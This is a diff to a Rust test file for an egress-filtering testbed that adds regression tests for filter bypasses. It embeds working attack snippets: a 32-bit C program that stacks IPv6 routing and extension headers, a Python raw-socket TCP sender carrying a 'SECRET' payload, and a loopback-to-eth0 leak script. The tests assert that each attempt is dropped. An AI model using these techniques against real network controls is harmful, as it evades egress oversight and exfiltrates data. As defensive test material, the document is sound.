@@ -2,14 +2,17 @@
 //! in the intercepted cgroup that source-routes its packets past connect()'s decision; a local
 //! user outside the cgroup who takes the local address of a homeserver connection that never
 //! reached the agent; and a neighbour with exactly Docker's default network capabilities that
-//! takes egress's port while egress is down. (The fourth, a reused synthetic DNS port, is in
-//! dns.rs with the rest of synthetic DNS.) Each failed on the release before.
+//! takes egress's port while egress is down; root in the cgroup with only Docker's default
+//! capabilities (a container's root) writing TCP on raw sockets or stacking extension headers; and
+//! an unprivileged process sending to a loopback address out of the LAN device. (The reused
+//! synthetic DNS port is in dns.rs with the rest of synthetic DNS.) Each failed on the release
+//! before.
 //!
 //! Root only: real namespaces, cgroup eBPF programs, squid and nginx.
 
 use std::time::Duration;
 
-use egress_testbed::{ORIGIN_IP, ORIGIN_IP6, Testbed, wait};
+use egress_testbed::{HS_IP, ORIGIN_IP, ORIGIN_IP6, Testbed, wait};
 
 /// A kernel decision counter; 0 where the running release has none (so that a test run against
 /// the release before fails on what the attack did, not on a missing counter).
@@ -26,6 +29,10 @@ impl Drop for Killed {
         let _ = self.0.wait();
     }
 }
+
+/// Root with exactly the capabilities Docker gives a container by default: `setpriv` options.
+const DOCKER_DEFAULT_CAPS: &str = "--bounding-set=-all,+chown,+dac_override,+fowner,+fsetid,+kill,\
++setgid,+setuid,+setpcap,+net_bind_service,+net_raw,+sys_chroot,+mknod,+audit_write,+setfcap";
 
 /// `python3 args...` as `nobody` with no capabilities (Debian's python).
 fn as_nobody<'a>(args: &[&'a str]) -> Vec<&'a str> {
@@ -96,18 +103,41 @@ fn routing_headers_and_source_routes_are_refused_on_intercepted_sockets() {
 }
 
 /// The same attack from a 32-bit process, whose setsockopt() skips the cgroup hook: the option is
-/// set, but the packets that carry it are dropped on their way out of the cgroup, counted.
+/// set, but the packets that carry it are dropped on their way out of the cgroup, counted. Once
+/// as `nobody` with a routing header alone; once as a container's root (CAP_NET_RAW allows
+/// hop-by-hop and destination options) with all four extension headers Linux stacks, hop-by-hop,
+/// destination options before and after the routing header: more than a short walk sees.
 #[test]
 fn a_32_bit_process_that_sets_a_routing_header_gets_its_packets_dropped() {
     let mut bed = Testbed::standard();
     bed.start_default_agent().unwrap();
-    let source = bed.dir.join("rthdr32.c");
-    std::fs::write(&source, RTHDR_32).unwrap();
-    let binary = bed.dir.join("rthdr32");
+    let binary = compile_32_bit(&bed, "rthdr32", RTHDR_32);
+    let nobody = ["--reuid=nobody", "--regid=nogroup", "--clear-groups"];
+    for (headers, user) in [("routing", &nobody[..]), ("all", &[DOCKER_DEFAULT_CAPS][..])] {
+        let before = counter(&bed, "drop_ip_options");
+        let mut args = user.to_vec();
+        args.extend([binary.as_str(), ORIGIN_IP6, headers]);
+        let out = bed.run_in_cgroup("setpriv", &args).unwrap();
+        assert_eq!(
+            bed.direct_packets_at_origin().unwrap(),
+            0,
+            "a source-routed packet ({headers}) reached the origin: {out:?}"
+        );
+        let said: Vec<&str> = out.stdout.lines().collect();
+        assert_eq!(said, ["set", "timeout"], "{headers}: {out:?}");
+        assert!(counter(&bed, "drop_ip_options") > before, "{headers}");
+    }
+}
+
+/// Compiles C `source` with `gcc -m32 -static` in the test's directory; the binary's path.
+fn compile_32_bit(bed: &Testbed, name: &str, source: &str) -> String {
+    let source_path = bed.dir.join(format!("{name}.c"));
+    std::fs::write(&source_path, source).unwrap();
+    let binary = bed.dir.join(name);
     let compiled = std::process::Command::new("gcc")
         .args(["-m32", "-static", "-O1", "-o"])
         .arg(&binary)
-        .arg(&source)
+        .arg(&source_path)
         .output()
         .unwrap();
     assert!(
@@ -115,31 +145,11 @@ fn a_32_bit_process_that_sets_a_routing_header_gets_its_packets_dropped() {
         "gcc -m32 (gcc-multilib, installed by cargo xtask setup): {}",
         String::from_utf8_lossy(&compiled.stderr)
     );
-    let before = counter(&bed, "drop_ip_options");
-    let binary = binary.to_string_lossy().into_owned();
-    let out = bed
-        .run_in_cgroup(
-            "setpriv",
-            &[
-                "--reuid=nobody",
-                "--regid=nogroup",
-                "--clear-groups",
-                &binary,
-                ORIGIN_IP6,
-            ],
-        )
-        .unwrap();
-    assert_eq!(
-        bed.direct_packets_at_origin().unwrap(),
-        0,
-        "a source-routed packet reached the origin: {out:?}"
-    );
-    let said: Vec<&str> = out.stdout.lines().collect();
-    assert_eq!(said, ["set", "timeout"], "{out:?}");
-    assert!(counter(&bed, "drop_ip_options") > before);
+    binary.to_string_lossy().into_owned()
 }
 
-/// Sets a segment routing header naming argv[1] on an IPv6 TCP socket and dials [::1]:80 for two
+/// Sets a segment routing header naming argv[1] on an IPv6 TCP socket (with argv[2] = `all`, also
+/// hop-by-hop options and destination options before and after it) and dials [::1]:80 for two
 /// seconds; prints `set` (or the errno) and the connect's outcome. Built with -m32: its
 /// setsockopt is a compat syscall.
 const RTHDR_32: &str = r#"
@@ -154,8 +164,18 @@ const RTHDR_32: &str = r#"
 #include <unistd.h>
 int main(int argc, char **argv) {
     unsigned char srh[40] = {0, 4, 4, 1, 1, 0, 0, 0};
+    /* Next header, length 0 (8 bytes), PadN of 4. */
+    unsigned char options[8] = {0, 0, 1, 4, 0, 0, 0, 0};
+    int all = argc > 2 && strcmp(argv[2], "all") == 0;
     if (argc < 2 || inet_pton(AF_INET6, argv[1], srh + 24) != 1) return 2;
     int s = socket(AF_INET6, SOCK_STREAM, 0);
+    int names[] = {54 /* IPV6_HOPOPTS */, 55 /* IPV6_RTHDRDSTOPTS */, 59 /* IPV6_DSTOPTS */};
+    for (int i = 0; all && i < 3; i++) {
+        if (setsockopt(s, IPPROTO_IPV6, names[i], options, sizeof options) != 0) {
+            printf("%d: %s\n", names[i], strerror(errno));
+            return 0;
+        }
+    }
     if (setsockopt(s, IPPROTO_IPV6, 57 /* IPV6_RTHDR */, srh, sizeof srh) != 0) {
         printf("%s\n", strerror(errno));
         return 0;
@@ -174,6 +194,115 @@ int main(int argc, char **argv) {
     return 0;
 }
 "#;
+
+/// Writes TCP SYNs with a payload to argv[1]:443 from argv[2] on raw sockets, as connect() never
+/// would: three with IPPROTO_TCP (the kernel writes the IP header), three with IPPROTO_RAW (the
+/// caller does). Prints `opened`, then per datagram `sent` or the errno (a packet dropped on its
+/// way out fails the send with EPERM).
+const RAW_TCP: &str = r#"
+import errno, socket, struct, sys
+dst, src = sys.argv[1], sys.argv[2]
+def checksum(data):
+    if len(data) % 2: data += b'\0'
+    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
+    while total >> 16: total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+payload = b'SECRET from a raw socket'
+def tcp():
+    head = struct.pack('!HHIIBBHHH', 40000, 443, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
+    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(head) + len(payload))
+    summed = checksum(pseudo + head + payload)
+    return head[:16] + struct.pack('!H', summed) + head[18:] + payload
+segment = tcp()
+ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+print('opened', flush=True)
+for sock, datagram in [(s, segment)] * 3 + [(r, ip + segment)] * 3:
+    try:
+        sock.sendto(datagram, (dst, 0)); print('sent')
+    except OSError as e:
+        print(errno.errorcode.get(e.errno, str(e)))
+"#;
+
+/// Root in the cgroup with Docker's default capabilities (a container's root has CAP_NET_RAW)
+/// writes TCP on raw sockets, which no connect() hook sees: every such packet is dropped on its way
+/// out of the cgroup, counted, and nothing reaches the origin. TCP through connect() still works.
+#[test]
+fn tcp_written_on_raw_sockets_is_dropped() {
+    let mut bed = Testbed::standard();
+    bed.start_default_agent().unwrap();
+    let before = counter(&bed, "drop_raw_tcp");
+    let out = bed
+        .run_in_cgroup(
+            "setpriv",
+            &[
+                DOCKER_DEFAULT_CAPS,
+                "/usr/bin/python3",
+                "-c",
+                RAW_TCP,
+                ORIGIN_IP,
+                HS_IP,
+            ],
+        )
+        .unwrap();
+    let said: Vec<&str> = out.stdout.lines().collect();
+    assert_eq!(said.first(), Some(&"opened"), "{out:?}");
+    assert_eq!(
+        bed.direct_packets_at_origin().unwrap(),
+        0,
+        "raw TCP reached the origin: {out:?}"
+    );
+    assert_eq!(said[1..], ["EPERM"; 6], "{out:?}");
+    assert_eq!(counter(&bed, "drop_raw_tcp"), before + 6);
+    assert_eq!(bed.curl("https://origin.test/").unwrap().code, Some(0));
+}
+
+/// Opens an ordinary loopback connection from the LAN address argv[1] to a listener on
+/// 127.0.0.2, then binds the client to the LAN device `eth0` and sends on it: where no loopback
+/// route matches the device, the kernel sends the data out of it. Prints `sent` or the errno.
+const LOOPBACK_OUT_OF_ETH0: &str = r#"
+import errno, socket, sys, time
+try:
+    l = socket.socket(); l.bind(('127.0.0.2', 0)); l.listen(1)
+    c = socket.socket(); c.bind((sys.argv[1], 0)); c.connect(l.getsockname()); l.accept()
+    c.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
+    for _ in range(3):
+        c.send(b'SECRET out of the LAN device'); time.sleep(0.2)
+    print('sent')
+except OSError as e:
+    print(errno.errorcode.get(e.errno, str(e)))
+time.sleep(1)
+"#;
+
+/// A process in the cgroup, as `nobody`, binds a loopback connection to the LAN device
+/// (SO_BINDTODEVICE needs no capability). connect() let it pass as loopback; the kernel would then
+/// send its data to whichever neighbour answers for 127.0.0.2 (here the origin, set up to). The
+/// packets are dropped on their way out of the cgroup, counted.
+#[test]
+fn loopback_traffic_bound_to_the_lan_device_is_dropped() {
+    let mut bed = Testbed::standard();
+    bed.start_default_agent().unwrap();
+    for sysctl in [
+        "net.ipv4.conf.all.route_localnet=1",
+        "net.ipv4.conf.eth0.route_localnet=1",
+    ] {
+        bed.origin.exec("sysctl", &["-qw", sysctl]).unwrap();
+    }
+    bed.origin
+        .ip(&["addr", "add", "127.0.0.2/32", "dev", "eth0"])
+        .unwrap();
+    let before = counter(&bed, "drop_loopback_leak");
+    let args = as_nobody(&["-c", LOOPBACK_OUT_OF_ETH0, HS_IP]);
+    let out = bed.run_in_cgroup(args[0], &args[1..]).unwrap();
+    assert_eq!(out.stdout.trim(), "sent", "{out:?}");
+    assert_eq!(
+        bed.direct_packets_at_origin().unwrap(),
+        0,
+        "loopback data reached the origin"
+    );
+    assert!(counter(&bed, "drop_loopback_leak") > before);
+}
 
 /// From the intercepted cgroup: binds 127.0.0.1:argv[1], connects to argv[2]:443 (redirected to
 /// egress), prints `connected`, then closes in order.
